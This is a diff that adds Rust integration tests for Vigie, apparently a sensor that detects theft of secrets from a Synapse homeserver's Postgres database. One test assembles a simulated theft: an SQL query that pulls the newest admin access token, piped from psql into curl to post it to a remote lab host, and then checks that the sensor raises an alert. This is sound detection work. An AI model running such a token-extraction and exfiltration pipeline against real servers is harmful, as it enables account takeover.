@@ -1,0 +1,159 @@
+//! Vigie protecting a real homeserver that keeps its data in Postgres, as Synapse's docs say
+//! a real one does: the access tokens are in the database server's files, which only
+//! `postgres` reads, so stealing them opens no watched file: the thief asks the server over its
+//! socket. Vigie finds the server from the homeserver's `database` setting; what it sends a
+//! process other than the homeserver taints that process with "homeserver database".
+//!
+//! The scenarios share one homeserver, one database server and one sensor (see
+//! `integration_tests::synapse`) and take turns; silence is asserted behind a barrier.
+
+use std::process::{Command, Stdio};
+
+use anyhow::{ensure, Context, Result};
+use integration_tests::synapse::{self, Database, SharedLab, SynapseLab};
+use integration_tests::{actor_exe, alert, ALERT_TIMEOUT};
+use serde_json::Value;
+
+/// The store's name in alerts.
+const STORE: &str = "homeserver database";
+/// The newest admin access token (Synapse's schema).
+const ADMIN_TOKEN_SQL: &str = "SELECT t.token FROM access_tokens t JOIN users u ON u.name = t.user_id \
+                               WHERE u.admin = 1 ORDER BY t.id DESC LIMIT 1";
+
+/// A DBA's look at the users table.
+const COUNT_SQL: &str = "SELECT count(*) FROM users";
+
+fn shared() -> Result<SharedLab> {
+    SynapseLab::shared_with(actor_exe!(), Database::Postgres)
+}
+
+/// The DBA's (or the attacker's) `psql` command line running `sql`.
+fn psql_as_postgres(world: &SynapseLab, sql: &str) -> String {
+    world.postgres.as_ref().map(|postgres| postgres.su_psql(sql)).unwrap_or_default()
+}
+
+/// Runs `script` with `sh -c`, its output unread (it may carry a secret); returns the shell's pid.
+fn shell(script: &str) -> Result<u32> {
+    let mut child = Command::new("sh")
+        .args(["-c", script])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .context("start sh")?;
+    let pid = child.id();
+    let status = child.wait()?;
+    ensure!(status.success(), "sh -c {script:?} failed: {status}");
+    Ok(pid)
+}
+
+/// The `secret-read` of the `psql` that ran `sql`.
+fn is_psql_read_of(sql: &str) -> impl Fn(&Value) -> bool + '_ {
+    move |line| {
+        synapse::text(line, "/event/action") == Some("secret-read")
+            && alert::process_executable(line).is_some_and(|exe| exe.ends_with("/psql"))
+            && line
+                .pointer("/process/args")
+                .and_then(Value::as_array)
+                .is_some_and(|args| args.iter().any(|arg| arg.as_str() == Some(sql)))
+    }
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_postgres_1_normal_life_of_the_homeserver_is_quiet() -> Result<()> {
+    let world = shared()?;
+    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
+    let start = world.sensor.lines().len();
+
+    // The sensor found the database server before the homeserver first talked to it.
+    let lines = world.sensor.lines();
+    let started = lines.iter().find(|l| alert::is_sensor_started(l)).context("no sensor-started")?;
+    let store = started.pointer("/vigie/stores/0").context("sensor-started lists no store")?;
+    ensure!(synapse::text(store, "/name") == Some(STORE), "{store:#}");
+    let socket = format!("unix:{}", postgres.socket().display());
+    ensure!(synapse::text(store, "/endpoint") == Some(socket.as_str()), "{store:#}");
+    let pids: Vec<u64> = store
+        .pointer("/server_pids")
+        .and_then(Value::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(Value::as_u64)
+        .collect();
+    ensure!(pids.first() == Some(&u64::from(postgres.pid())), "the postmaster first: {store:#}");
+    let startup = world.alerts_in(&lines[..world.startup_lines]);
+    ensure!(startup.is_empty(), "alerts while the homeserver started: {startup:#?}");
+
+    // Logins, rooms, messages: every one a round of queries to the database server.
+    let admin = world.login_admin()?;
+    let room = admin.create_room("vigie")?;
+    for (txn, text) in ["hello", "from postgres"].iter().enumerate() {
+        admin.send_text(&room, &format!("t{txn}"), text)?;
+    }
+    // Its replies to the homeserver taint nobody: the homeserver is trusted.
+    world.assert_quiet_since(start)
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_postgres_2_token_theft_through_psql_and_curl_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    let dest = world.lab.remote().tcp_v4();
+    // A fresh session of the admin's: the token the thief takes. Never printed.
+    let token = world.login_admin()?.access_token().to_owned();
+    let script = format!(
+        "{} | curl -s -o /dev/null --data-binary @- http://{dest}/",
+        psql_as_postgres(&world, ADMIN_TOKEN_SQL)
+    );
+
+    let sh = shell(&script)?;
+
+    let found = world.sensor.expect(
+        |line| {
+            alert::is_exfiltration(line)
+                && alert::ancestry_pids(line).contains(&sh)
+                && alert::process_executable(line).is_some_and(|exe| exe.ends_with("/curl"))
+        },
+        ALERT_TIMEOUT,
+    )?;
+    ensure!(alert::secret_kind(&found) == Some("database"), "{found:#}");
+    ensure!(synapse::text(&found, "/vigie/secret/name") == Some(STORE), "names the store: {found:#}");
+    ensure!(found.pointer("/file").is_none(), "no file was read: {found:#}");
+    ensure!(
+        synapse::text(&found, "/vigie/origin/executable").is_some_and(|exe| exe.ends_with("/psql")),
+        "psql took it from the server: {found:#}"
+    );
+    ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
+    let read = world.sensor.expect(is_psql_read_of(ADMIN_TOKEN_SQL), ALERT_TIMEOUT)?;
+    ensure!(synapse::text(&read, "/vigie/via/kind") == Some("database-socket"), "{read:#}");
+    ensure!(
+        synapse::pid_at(&found, "/vigie/origin/pid") == alert::process_pid(&read),
+        "psql is the origin: {found:#}"
+    );
+    let everything =
+        world.sensor.lines().iter().map(Value::to_string).collect::<String>() + &world.sensor.stderr();
+    ensure!(!everything.contains(&token), "the token is in the sensor's output");
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_postgres_3_a_dba_query_that_sends_nothing_is_seen_and_not_alerted() -> Result<()> {
+    let world = shared()?;
+
+    let sh = shell(&format!("{} > /dev/null", psql_as_postgres(&world, COUNT_SQL)))?;
+
+    // Seen: psql took in the database's reply.
+    let read = world.sensor.expect(is_psql_read_of(COUNT_SQL), ALERT_TIMEOUT)?;
+    ensure!(synapse::text(&read, "/vigie/secret/name") == Some(STORE), "{read:#}");
+    let psql = alert::process_pid(&read).context("secret-read without a pid")?;
+    // Not alerted: it sent nothing off the host.
+    world.lab.assert_no_alert_for(&world.sensor, psql)?;
+    let alerts: Vec<Value> = world
+        .alerts_in(&world.sensor.lines())
+        .into_iter()
+        .filter(|l| alert::ancestry_pids(l).contains(&sh))
+        .collect();
+    ensure!(alerts.is_empty(), "alerts about the DBA's shell: {alerts:#?}");
+    Ok(())
+}
